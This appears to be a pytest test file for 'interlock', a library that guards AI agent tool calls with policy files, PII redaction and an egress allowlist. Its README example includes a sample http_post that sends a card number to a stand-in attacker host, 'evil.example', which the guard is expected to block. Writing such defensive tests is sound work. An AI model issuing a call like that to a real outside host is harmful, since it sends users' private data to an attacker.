"""The face as users meet it: the README's lines, `install` with each kind of policy, and what importing costs."""

from __future__ import annotations

import json
import os
import resource
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

import interlock
from interlock import Blocked, Decision, NotApproved, SensorEvent, enforce_tool_call, install
from interlock.base.errors import InterlockError
from interlock.engine import ambient
from interlock.engine.policy.model import Policy
from interlock.engine.receipts import Receipt
from interlock.engine.sinks import InMemorySink


@pytest.fixture(autouse=True)
def _nothing_installed() -> Iterator[None]:
    yield
    ambient.install(None)


README = """
import interlock
from interlock import Blocked, enforce_tool_call
from interlock.detectors import pii_redaction_guard, network_egress_guard
interlock.install(rules=[pii_redaction_guard(), network_egress_guard(allowed_hosts=["api.internal"])])
enforce_tool_call("http_post", {"url": "https://api.internal/notes", "body": "card 4111 1111 1111 1111"})
# -> {'url': 'https://api.internal/notes', 'body': 'card [REDACTED CREDIT_CARD]'}
enforce_tool_call("http_post", {"url": "https://evil.example/collect", "body": "card 4111 1111 1111 1111"})
# -> raises Blocked: egress to 'evil.example' is not on the destination allowlist
"""


def test_the_lines_of_the_readme_do_what_they_say() -> None:
    *setup, first, told, second, raised = README.strip().splitlines()
    names: dict[str, object] = {}
    exec("\n".join(setup), names)
    assert eval(first, names) == eval(told.removeprefix("# -> "))
    with pytest.raises(Blocked) as caught:
        eval(second, names)
    assert raised == f"# -> raises {type(caught.value).__name__}: {caught.value}"


def test_the_order_of_the_two_rules_does_not_matter() -> None:
    swapped = README.replace("[pii_redaction_guard(), ", "[").replace(
        '["api.internal"])]', '["api.internal"]), pii_redaction_guard()]'
    )
    assert swapped.count("pii_redaction_guard()") == 1
    *setup, first, told, _, _ = swapped.strip().splitlines()
    names: dict[str, object] = {}
    exec("\n".join(setup), names)
    assert eval(first, names) == eval(told.removeprefix("# -> "))


def test_the_face_names_just_what_it_has() -> None:
    promised = """ApprovalQueue Binding Blocked Decision FileSink FlowTracker InMemorySink NotApproved NullSink
    ScopeRegistry ScopedEngine SensorEvent Template Verdict __version__ deny_when enforce_tool_call
    enforce_tool_result guard install monitor origin_for_tool record_origin span"""
    assert " ".join(interlock.__all__) == " ".join(promised.split())
    assert all(hasattr(interlock, name) for name in interlock.__all__)


def policy_file(path: Path, *rules: dict[str, object], extends: tuple[str, ...] = ()) -> Path:
    body: dict[str, object] = {"format": "interlock-policy", "v": 1, "name": path.stem, "rules": list(rules)}
    if extends:
        body["extends"] = list(extends)
    path.write_text(json.dumps(body))
    return path


def rule(action: str, verdict: str = "block", reason: str = "not here") -> dict[str, object]:
    event = {"action": action, "args": {}}
    return {
        "id": f"no.{action.lower()}",
        "when": {"action": action},
        "verdict": verdict,
        "reason": reason,
        "examples": {"fires": [event], "passes": [{**event, "action": "Other"}]},
    }


def test_a_policy_file_guards_and_its_change_is_in_force_once_it_is_loaded(tmp_path: Path) -> None:
    path = policy_file(tmp_path / "mine.json", rule("Write"))
    sink = InMemorySink()
    install(policy=path, sink=sink)
    with pytest.raises(Blocked, match="not here") as caught:
        enforce_tool_call("Write", {})
    assert caught.value.policy_id == "no.write"
    policy_file(path, rule("Bash", reason="changed"))
    ambient.installed().live.refresh(wait=True)
    assert enforce_tool_call("Write", {}) == {}
    with pytest.raises(Blocked, match="changed"):
        enforce_tool_call("Bash", {})
    path.write_text("{ broken")
    ambient.installed().live.refresh(wait=True)
    with pytest.raises(Blocked, match="changed"):
        enforce_tool_call("Bash", {})
    assert ambient.installed().live.trouble is not None
    assert [r.policy_epoch for r in sink.receipts] == [1, 2, 2, 2]


def test_files_that_a_policy_extends_are_followed_too(tmp_path: Path) -> None:
    policy_file(tmp_path / "base.json", rule("Write"))
    install(policy=policy_file(tmp_path / "mine.json", rule("Edit"), extends=("base.json",)))
    for action in ("Write", "Edit"):
        with pytest.raises(Blocked):
            enforce_tool_call(action, {})
    policy_file(tmp_path / "base.json", rule("Read"))
    ambient.installed().live.refresh(wait=True)
    assert enforce_tool_call("Write", {}) == {}
    with pytest.raises(Blocked):
        enforce_tool_call("Read", {})


def test_the_policys_rules_run_before_those_of_code(tmp_path: Path) -> None:
    seen: list[str] = []

    def mine(event: SensorEvent) -> Decision | None:
        seen.append(event.action)
        return Decision.escalate("ask me")

    install(policy=policy_file(tmp_path / "mine.json", rule("Write")), rules=[mine])
    with pytest.raises(Blocked, match="not here"):
        enforce_tool_call("Write", {})
    assert seen == []
    with pytest.raises(NotApproved, match="ask me"):
        enforce_tool_call("Read", {})


def test_a_policy_that_is_made_already_can_be_installed() -> None:
    install(policy=Policy((), "d" * 64))
    assert ambient.installed().live.current.digest == "d" * 64


@pytest.mark.parametrize(
    "name", ["builtin:nothing", "mesh:", "mesh:pack", "mesh:@stable", "mesh:pack@stable", "missing.json"]
)
def test_a_policy_that_is_not_there_is_one_clear_line(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    monkeypatch.delenv("INTERLOCK_CONFIG", raising=False)
    with pytest.raises(InterlockError) as caught:
        install(policy=str(tmp_path / name) if name.endswith(".json") else name)
    assert "\n" not in str(caught.value)
    with pytest.raises(RuntimeError):
        ambient.installed()


def cpu_seconds(code: str) -> float:
    """Processor time of one fresh interpreter."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    subprocess.run([sys.executable, "-I", "-c", code], check=True)
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    return after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime


def test_importing_costs_less_than_60_ms_over_bare_python() -> None:
    path = f"import sys; sys.path.insert(0, {str(Path(interlock.__file__).parents[1])!r}); "
    bare = min(cpu_seconds(path) for _ in range(5))
    # Neighbours on a busy machine make every run slower and none faster, so one run under the limit shows it.
    assert any(cpu_seconds(path + "import interlock") - bare < 0.060 for _ in range(25))


def test_importing_loads_nothing_that_only_an_installed_guard_needs() -> None:
    code = (
        f"import sys; sys.path.insert(0, {str(Path(interlock.__file__).parents[1])!r}); before = set(sys.modules)\n"
        "import interlock\n"
        "new = set(sys.modules) - before\n"
        "costly = {'datetime', 'ipaddress', 'logging', 'pathlib', 'threading', 'traceback', 'urllib'}\n"
        "assert not new & costly, new & costly\n"
        "assert 'interlock.engine.sinks' not in new\n"
        "assert interlock.FileSink is sys.modules['interlock.engine.sinks'].FileSink\n"
    )
    subprocess.run([sys.executable, "-I", "-c", code], check=True)


def test_every_public_name_is_there_and_no_other() -> None:
    names: dict[str, object] = {}
    exec("from interlock import *", names)
    assert set(interlock.__all__) <= names.keys()
    with pytest.raises(AttributeError, match="no_such_name"):
        _ = interlock.no_such_name


def test_a_policy_is_named_by_text_bytes_or_path(tmp_path: Path) -> None:
    path = tmp_path / "p.json"
    rule = {"id": "a", "when": {"action": "x"}, "verdict": "block", "reason": "no"}
    path.write_text(json.dumps({"format": "interlock-policy", "v": 1, "name": "t", "rules": [rule]}), encoding="utf-8")
    for name in (str(path), path, os.fsencode(path)):
        install(policy=name)
        with pytest.raises(Blocked):
            enforce_tool_call("x", {})
    with pytest.raises(InterlockError):
        install(policy="a\0b")


def test_a_receipt_that_cannot_be_kept_is_told_where_nothing_is_refused(caplog: pytest.LogCaptureFixture) -> None:
    class Full(InMemorySink):
        def append(self, receipt: Receipt) -> Receipt:
            raise OSError("a value that no log may show")

    install(sink=Full())
    assert enforce_tool_call("t", {"a": 1}, enforcement="monitor") == {"a": 1}
    assert "receipt not written: OSError" in caplog.text
    assert "no log may show" not in caplog.text


def test_importing_needs_the_standard_library_only_and_no_other_room() -> None:
    code = (
        f"import sys; sys.path.insert(0, {str(Path(interlock.__file__).parents[1])!r}); before = set(sys.modules)\n"
        "import interlock, interlock.detectors\n"
        "tops = {m.split('.')[0] for m in set(sys.modules) - before}\n"
        "rooms = {m.split('.')[1] for m in sys.modules if m.startswith('interlock.')}\n"
        "assert tops <= set(sys.stdlib_module_names) | {'interlock'}, tops\n"
        "assert not rooms & {'node', 'dap', 'commons', 'transparency', 'native'}, rooms\n"
        "assert not set(sys.modules) & {'asyncio', 'tempfile', 'uuid', 'tomllib', 'decimal', 'email', 'http'}\n"
    )
    subprocess.run([sys.executable, "-I", "-c", code], check=True)
